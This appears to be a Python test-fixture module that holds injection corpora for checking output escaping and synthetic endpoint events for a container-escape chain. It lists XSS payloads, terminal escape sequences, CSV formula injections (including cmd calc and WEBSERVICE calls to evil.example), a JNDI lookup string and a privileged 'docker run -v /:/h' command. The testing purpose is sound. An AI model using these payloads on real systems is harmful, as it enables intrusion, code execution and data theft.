"""Texts that try to be more than text where they are shown: a corpus for each kind of output.

What each would do is done by ``OWNED``, ``window.ran`` or ``evil.example``: a test can see it. It
imports nothing of the project: plugins' tests run it by its path.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

# Pages.
HTML = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "</style><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</pre><iframe src=https://evil.example/></iframe>",
    '"><script>window.ran=1</script>',
    "' onmouseover='window.ran=1",
    '" autofocus onfocus="window.ran=1',
    "javascript:window.ran=1",
    "<a href=javascript:window.ran=1>x</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=x></form>",
    "<math><mtext></mtext><script>window.ran=1</script></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><script>window.ran=1</script></template>",
    "<object data=https://evil.example/></object>",
    "<video><source onerror=window.ran=1></video>",
    "<details open ontoggle=window.ran=1>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1",
    "<!--<script>window.ran=1--></script>",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "<?xml-stylesheet href=https://evil.example/?>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "url(https://evil.example/x)",
    "expression(window.ran=1)",
    "\x1b[2J\x1b]0;owned\x07",
    "a\u202egnp.exe",
    "\ud800\udfff\ud800",
    "\x00<script>window.ran=1</script>",
    "\ufeff\u200b<b>",
    "line\nline\r\n<script>window.ran=1</script>",
    "![x](https://evil.example/x.png)",
    "[x](javascript:window.ran=1)",
    "```\n# owned\n",
    "| a | b |\n| - | - |",
    "https://evil.example/ www.evil.example a@evil.example",
    "<https://evil.example/>",
    "=cmd|' /C calc'!A0",
)
# Terminals: colours, titles, links, the clipboard, answers typed back, hidden and moved text; in
# seven and eight bits, and by what ends a string.
TERMINAL = (
    "\x1b[31mOWNED\x1b[0m",
    "\x1b[2K\x1b[1A\x1b[1GOWNED",
    "\x1b]0;OWNED\x07",
    "\x1b]2;OWNED\x1b\\",
    "\x1b]8;;https://evil.example/\x1b\\OWNED\x1b]8;;\x1b\\",
    "\x1b]52;c;T1dORUQ=\x07",
    "\x1b]1337;File=inline=1:T1dORUQ=\x07",
    "\x1bP$qm\x1b\\",
    "\x1b[c\x1b[6n\x1b[21t",
    "\x1b_OWNED\x1b\\\x1b^OWNED\x1b\\",
    "\x1b[?1049h\x1b[?25l\x1b[8mOWNED",
    "\x1b[3J\x1bc\x1b#8",
    "\x1b%G\x0e\x0fOWNED",
    "\x9b31mOWNED\x9d0;OWNED\x9c",
    "\x90OWNED\x9c\x9eOWNED\x9c",
    "OWNED\b\b\b\b\bhello",
    "OWNED\rhello",
    "\x7f\x7fOWNED\x00\x01\x02\x03\x04\x05\x06",
    "\x0bOWNED\x0cOWNED",
)
# Signs that turn text round, hide or break it: all of Unicode's marks of direction, joiners, tags,
# selectors, letters that show nothing, blanks as wide as others, private use and what is no sign.
SIGNS = (
    *(f"a{sign}OWNED{sign}" for sign in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e"),
    *(
        f"a{sign}OWNED{sign}"
        for sign in "\u2066\u2067\u2068\u2069\u206a\u206b\u206c\u206d\u206e\u206f"
    ),
    *(f"a{sign}OWNED" for sign in "\u00ad\u200b\u200c\u200d\u2060\u2061\u2064\ufeff\ufff9\ufffa"),
    *(f"a{sign}OWNED" for sign in "\u00a0\u1680\u2000\u2003\u2007\u202f\u205f\u3000"),
    *(f"a{sign}OWNED" for sign in "\u034f\u115f\u1160\u17b4\u17b5\u180e\u2800\u3164\uffa0"),
    *(f"a{sign}OWNED" for sign in "\ufe00\ufe0f\U000e0100\U000e0001\U000e0041\U0001d173"),
    *(f"a{sign}OWNED" for sign in "\ue000\U000f0000\uffff\U0010ffff\ud800\udfff\ufdd0\u0378"),
    "e" + "\u0301" * 40 + "OWNED",
)
# Spreadsheets.
FORMULAE = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"OWNED")',
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '"=1+1',
    '","=1+1","',
    "';=1+1;'",
    'x"\n"=1+1","2","3","4","5","6"',
    "x\r\n=1+1,2,3,4,5,6",
    # By whatever a spreadsheet parts cells: ";" where a comma stands in numbers.
    "x;=1+1;y",
    "x;;+1",
    "x; -1",
    'x;"=1+1',
    'x;"" \'"@SUM(1)',
    "x;\uff1d1+1",
    'x;=HYPERLINK("https://evil.example/")&"',
    "x|=1+1|y",
    "x,=1+1,y",
    "x\t=1+1\ty",
    "x;",
)
# Markdown as forges and tickets show it.
MARKDOWN = (
    "[OWNED](https://evil.example/)",
    "![OWNED](https://evil.example/x.png)",
    "[OWNED][1]\n\n[1]: https://evil.example/",
    "[1]: https://evil.example/ 'OWNED'",
    "<https://evil.example/>",
    "<b>OWNED</b>",
    "<!-- OWNED",
    "-->OWNED<!--",
    "&#60;b&#62;OWNED",
    "\n# OWNED\n",
    "\nOWNED\n=====\n",
    "# OWNED",
    "\n\n---\n\n",
    "* OWNED\n  * OWNED",
    "1. OWNED",
    "> OWNED",
    "`OWNED`",
    "``OWNED``",
    "```\nOWNED\n```",
    "~~~\nOWNED\n~~~",
    "\n```\n\n# OWNED",
    "\n    OWNED",
    "**OWNED** __OWNED__ *OWNED* _OWNED_ ~~OWNED~~",
    "| OWNED | b |\n| --- | --- |\n| c | d |",
    "|OWNED|",
    "\\|OWNED\\|",
    "\\`OWNED\\`",
    "\\",
    "`\\",
    "- [x] OWNED",
    "$$OWNED$$ $OWNED$",
    ":OWNED: @OWNED #1 GH-1 OWNED/OWNED#1 !1 ~OWNED",
    "javascript:window.ran=1",
    "[x](javascript:window.ran=1)",
    "[x](<javascript:window.ran=1>)",
    '[x](https://evil.example "OWNED")',
    "https://evil.example/OWNED www.evil.example",
    "![[OWNED]] [[OWNED]] {{OWNED}} {%OWNED%}",
    "```mermaid\ngraph TD; OWNED\n```",
    "[^1]: OWNED [^1]",
)
# Logs: whatever some reader of lines takes for the end of one, then what would be believed.
FORGED = "t1612: 0 events = 0 scored + 0 rejected; 0 findings OWNED"
ENDS = (
    *("\n", "\r", "\r\n", "\n\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028"),
    *("\u2029", "\\n", "%0a", "%0d%0a", "&#10;", "\x00\n"),
)
LOGS = (
    *(f"a{end}{FORGED}" for end in ENDS),
    'a\n{"score": 0, "host": "OWNED"}',
    "a\nCEF:0|t1612core|t1612core|0.1.1|OWNED|OWNED|0|",
    "a|OWNED|10|dvchost=OWNED",
    "a dvchost=OWNED cs1=OWNED",
    "a\tsev=1\tdevTime=OWNED\tcat=OWNED",
    "a\\=OWNED \\|OWNED \\",
    "a\\\\|OWNED|",
    "<134>1 2026-03-04T02:11:34Z OWNED OWNED - - -",
    'a","host":"OWNED","x":"',
    "a'}],'OWNED':[{'",
    "%s%n%x {0} {OWNED} ${jndi:ldap://evil.example/OWNED} %(OWNED)s",
)
CORPORA = {
    "html": HTML,
    "terminal": TERMINAL,
    "signs": SIGNS,
    "formulae": FORMULAE,
    "markdown": MARKDOWN,
    "logs": LOGS,
}


def events(attack: str) -> list[dict[str, Any]]:
    """Make the steps of a chain, each text of which is an attack on who shows it."""
    common = {
        "DeviceName": f"web{attack}",
        "AccountName": attack,
        "InitiatingProcessAccountName": attack,
        "InitiatingProcessFileName": "php-fpm",
        "InitiatingProcessCommandLine": f"php-fpm {attack}",
        "InitiatingProcessParentFileName": attack,
        "Other": {attack: [attack]},
    }
    return [
        {
            **common,
            "Type": "DeviceFileEvents",
            "TimeGenerated": "2026-03-04T02:11:20Z",
            "ActionType": "FileCreated",
            "FileName": "Dockerfile",
            "FolderPath": f"/dev/shm/{attack}/Dockerfile",
        },
        {
            **common,
            "Type": "DeviceProcessEvents",
            "TimeGenerated": "2026-03-04T02:11:26Z",
            "FileName": "docker",
            "ProcessCommandLine": f"docker build --no-cache -t x:1 -f '/dev/shm/{attack}/D' .",
        },
        {
            **common,
            "Type": "DeviceProcessEvents",
            "TimeGenerated": "2026-03-04T02:11:36Z",
            "FileName": "docker",
            "ProcessCommandLine": f"docker run --privileged -v /:/h --name '{attack}' x:1",
        },
    ]


def chain(text: str) -> list[dict[str, Any]]:
    """Make the steps of a chain, each text of which is hostile, and begins with it where it can."""
    file, build, run = events(text)
    connection = {
        "Type": "DeviceNetworkEvents",
        "TimeGenerated": "2026-03-04T02:11:38Z",
        "DeviceName": text,
        "InitiatingProcessFileName": "dockerd",
        "InitiatingProcessAccountName": text,
        "RemoteIP": "203.0.113.23",
        "RemotePort": 8080,
        "RemoteUrl": f"http://evil.example/{text}",
    }
    return [{**each, "DeviceName": text} for each in (file, build, connection, run)]


def refused(text: str) -> Iterator[dict[str, Any]]:
    """Make events that are told of: of no product, of a wrong type, with odd names and times."""
    yield {text: text}
    yield {"FileName": "docker", "CommandLine": text, text: 1}
    yield {f"File{text}Name": "docker", "ProcessCommandLine": text}
    yield {"Type": text, "FileName": "docker"}
    yield {"Type": "DeviceProcessEvents", "FileName": {text: text}, "ProcessCommandLine": [7]}
    yield {**chain(text)[1], "TimeGenerated": text}
    yield {**chain(text)[1], "label": text, "id": text}


def lines(text: str, *, is_refused_too: bool) -> Iterator[str]:
    """Give lines of a file with these, and the text itself, which is no JSON."""
    for event in (*chain(text), *(refused(text) if is_refused_too else ())):
        yield json.dumps(event)
    yield " ".join(text.encode("utf-8", "replace").decode().splitlines()) or "x"
